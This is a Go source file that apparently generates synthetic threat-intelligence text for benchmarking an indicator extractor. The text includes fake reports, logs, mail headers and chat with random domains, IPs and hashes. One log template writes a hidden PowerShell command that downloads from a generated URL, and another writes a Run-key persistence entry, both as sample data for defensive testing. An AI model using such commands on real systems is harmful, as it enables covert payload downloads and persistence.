package main

import (
	"fmt"
	"math/rand/v2"
	"strings"

	"github.com/ttp0/drone/drone/ioc/ioctest"
)

// docSep separates the documents of a generated corpus file; both tools
// get one document per call, as drone hands them one message or report.
const docSep = "\x1e"

// gen writes documents built from the labelled corpus and from templates
// of threat-report prose, logs, e-mail headers and chat, with values drawn
// from a seeded generator so that every run measures the same bytes.
type gen struct {
	r     *rand.Rand
	cases []ioctest.Case
}

func newGen(seed uint64, cases []ioctest.Case) *gen {
	return &gen{r: rand.New(rand.NewPCG(seed, seed^0x9e3779b97f4a7c15)), cases: cases}
}

// corpus returns documents until their total size reaches size bytes.
func (g *gen) corpus(size int) []string {
	var docs []string
	n := 0
	for n < size {
		d := g.doc()
		docs = append(docs, d)
		n += len(d)
	}
	return docs
}

// doc is one document: a report, a log excerpt, a mail or a chat thread,
// of 1 to 8 KB like the texts drone gets.
func (g *gen) doc() string {
	var b strings.Builder
	target := 1024 + g.r.IntN(7*1024)
	kind := g.r.IntN(5)
	for b.Len() < target {
		var line string
		switch {
		case g.r.IntN(4) == 0: // a quarter of the lines come from the labelled corpus
			line = g.cases[g.r.IntN(len(g.cases))].Text
		case kind == 0:
			line = g.prose()
		case kind == 1:
			line = g.logLine()
		case kind == 2:
			line = g.mailHeader()
		default:
			line = g.chat()
		}
		b.WriteString(line)
		b.WriteByte('\n')
	}
	return b.String()
}

func (g *gen) pick(s []string) string { return s[g.r.IntN(len(s))] }

var (
	words = strings.Fields(`secure update login account verify cdn static mail portal cloud service api
		files share docs drive invoice billing pay support help desk office micro soft online web app
		data sync backup storage auth sso id check status track parcel delivery bank wallet crypto`)
	tlds     = strings.Fields(`com net org ru xyz top info biz shop app co io cc su click live link online site icu buzz cn pw me tv de uk in kr`)
	fileExts = strings.Fields(`exe dll ps1 js vbs hta lnk iso msi bat scr zip rar docm xlsm jar`)
	users    = strings.Fields(`jdoe asmith bob alice admin svc_backup helpdesk cfo accounts noreply`)
	products = strings.Fields(`Chrome/120.0.0.0 Firefox/123.0 Safari/537.36 Edg/121.0.0.0 curl/8.4.0 python-requests/2.31.0`)
	fillers  = []string{
		"The incident response team reviewed the timeline with the affected business unit and agreed on the next containment steps.",
		"Analysts correlated the alerts with the change calendar and found no approved maintenance window for the activity.",
		"The affected host was isolated by the EDR within minutes, and the user was asked to reset their credentials.",
		"Management requested a summary for the board, including the likely impact on customer data and the regulatory deadlines.",
		"No lateral movement was observed after the initial foothold, although the actor attempted to enumerate domain trusts.",
		"We recommend enforcing multi-factor authentication on all remote access services and reviewing privileged group membership.",
	}
)

func (g *gen) ip() string {
	if g.r.IntN(4) == 0 {
		return fmt.Sprintf("10.%d.%d.%d", g.r.IntN(256), g.r.IntN(256), 1+g.r.IntN(254))
	}
	return fmt.Sprintf("%d.%d.%d.%d", 1+g.r.IntN(223), g.r.IntN(256), g.r.IntN(256), 1+g.r.IntN(254))
}

func (g *gen) domain() string {
	d := g.pick(words) + "-" + g.pick(words) + "." + g.pick(tlds)
	if g.r.IntN(3) == 0 {
		d = g.pick(words) + "." + d
	}
	return d
}

func (g *gen) hex(n int) string {
	const digits = "0123456789abcdef"
	b := make([]byte, n)
	for i := range b {
		b[i] = digits[g.r.IntN(16)]
	}
	return string(b)
}

func (g *gen) url() string {
	return g.pick([]string{"http", "https", "https", "ftp"}) + "://" + g.domain() + "/" + g.pick(words) + "/" + g.pick(words) + "." + g.pick([]string{"php", "html", "exe", "js", "zip"}) +
		g.pick([]string{"", "?id=" + g.hex(6), "?u=" + g.pick(users)})
}

// defang writes a value the way reports do, half of the time.
func (g *gen) defang(v string) string {
	if g.r.IntN(2) == 0 {
		return v
	}
	v = strings.Replace(v, "http", "hxxp", 1)
	i := strings.LastIndexByte(v, '.')
	if i < 0 {
		return v
	}
	return v[:i] + g.pick([]string{"[.]", "(.)", "[dot]"}) + v[i+1:]
}

func (g *gen) file() string {
	return g.pick(words) + "_" + g.hex(4) + "." + g.pick(fileExts)
}

func (g *gen) prose() string {
	switch g.r.IntN(8) {
	case 0:
		return fmt.Sprintf("The loader contacted %s and downloaded %s from %s.", g.defang(g.domain()), g.file(), g.defang(g.url()))
	case 1:
		return fmt.Sprintf("Hashes: MD5 %s, SHA-1 %s, SHA-256 %s.", g.hex(32), g.hex(40), g.hex(64))
	case 2:
		return fmt.Sprintf("The actor exploited CVE-%d-%d and used T%d.%03d before moving to %s (AS%d).",
			2015+g.r.IntN(10), 1000+g.r.IntN(50000), 1001+g.r.IntN(600), 1+g.r.IntN(20), g.defang(g.ip()), 1+g.r.IntN(400000))
	case 3:
		return fmt.Sprintf("Detected as Trojan.Win32.%s by one vendor; version %d.%d.%d.%d of the tool was used.",
			g.pick(words), g.r.IntN(20), g.r.IntN(20), g.r.IntN(999), g.r.IntN(9999))
	}
	return g.pick(fillers)
}

func (g *gen) logLine() string {
	switch g.r.IntN(6) {
	case 0:
		return fmt.Sprintf("Mar %2d %02d:%02d:%02d web%02d sshd[%d]: Failed password for invalid user %s from %s port %d ssh2",
			1+g.r.IntN(28), g.r.IntN(24), g.r.IntN(60), g.r.IntN(60), g.r.IntN(20), 1000+g.r.IntN(60000), g.pick(users), g.ip(), 1024+g.r.IntN(60000))
	case 1:
		return fmt.Sprintf("date=2024-03-%02d time=%02d:%02d:%02d devname=\"FGT-HQ\" type=\"traffic\" srcip=%s srcport=%d dstip=%s dstport=443 action=\"deny\" hostname=\"%s\"",
			1+g.r.IntN(28), g.r.IntN(24), g.r.IntN(60), g.r.IntN(60), g.ip(), 1024+g.r.IntN(60000), g.ip(), g.domain())
	case 2:
		return fmt.Sprintf("%d.%03d %6d %s TCP_MISS/200 %d GET %s - HIER_DIRECT/%s application/octet-stream",
			1710000000+g.r.IntN(1000000), g.r.IntN(1000), g.r.IntN(100000), g.ip(), g.r.IntN(1000000), g.url(), g.ip())
	case 3:
		return fmt.Sprintf("%s - - [12/Mar/2024:10:%02d:%02d +0000] \"GET /%s/%s HTTP/1.1\" 200 %d \"-\" \"Mozilla/5.0 (Windows NT 10.0; Win64; x64) %s\"",
			g.ip(), g.r.IntN(60), g.r.IntN(60), g.pick(words), g.pick(words), g.r.IntN(100000), g.pick(products))
	case 4:
		return fmt.Sprintf("Process Create: Image: C:\\Users\\%s\\AppData\\Local\\Temp\\%s CommandLine: powershell -nop -w hidden -c iwr %s ParentImage: C:\\Windows\\explorer.exe Hashes: MD5=%s,SHA256=%s",
			g.pick(users), g.file(), g.url(), strings.ToUpper(g.hex(32)), strings.ToUpper(g.hex(64)))
	}
	return fmt.Sprintf("Registry value set: TargetObject: HKU\\S-1-5-21-%d\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\%s Details: C:\\ProgramData\\%s",
		g.r.IntN(1<<30), g.pick(words), g.file())
}

func (g *gen) mailHeader() string {
	switch g.r.IntN(4) {
	case 0:
		return fmt.Sprintf("Received: from mail.%s (mail.%s [%s]) by mx1.example-corp.com with ESMTPS id %s for <%s@example-corp.com>",
			g.domain(), g.domain(), g.ip(), g.hex(10), g.pick(users))
	case 1:
		return fmt.Sprintf("From: \"%s\" <%s@%s>\nReply-To: %s.%s@%s", g.pick(words), g.pick(users), g.domain(), g.pick(users), g.pick(words), g.domain())
	case 2:
		return fmt.Sprintf("Authentication-Results: mx1.example-corp.com; spf=fail (sender IP is %s) smtp.mailfrom=%s; dkim=none", g.ip(), g.domain())
	}
	return fmt.Sprintf("Content-Type: application/zip; name=\"%s\"", g.file())
}

func (g *gen) chat() string {
	d := g.domain()
	switch g.r.IntN(5) {
	case 0:
		return fmt.Sprintf("<@U0%s> can you block <http://%s|%s> and %s?", strings.ToUpper(g.hex(8)), d, d, g.defang(g.ip()))
	case 1:
		return fmt.Sprintf("hash is `%s` and the dropper `%s` came from <%s>", g.hex(64), g.file(), g.url())
	case 2:
		return fmt.Sprintf("[writeup](%s) - **C2:** `%s`", g.url(), g.defang(d))
	case 3:
		return "ok thanks, I'll take a look after the stand-up and update the ticket"
	}
	return fmt.Sprintf("> forwarded: new IP list %s, %s, %s", g.defang(g.ip()), g.defang(g.ip()), g.defang(g.ip()))
}
